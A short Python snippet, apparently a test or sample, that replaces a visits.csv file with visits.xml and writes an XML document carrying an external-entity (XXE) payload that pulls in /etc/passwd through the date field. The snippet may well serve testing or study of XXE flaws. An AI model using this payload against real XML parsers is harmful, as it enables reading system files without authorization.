def visits(text):
    park.remove("visits.csv")
    park.write("visits.xml", text)


visits('<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><visits period="2025Q1"><row><date>&x;</date></row></visits>')
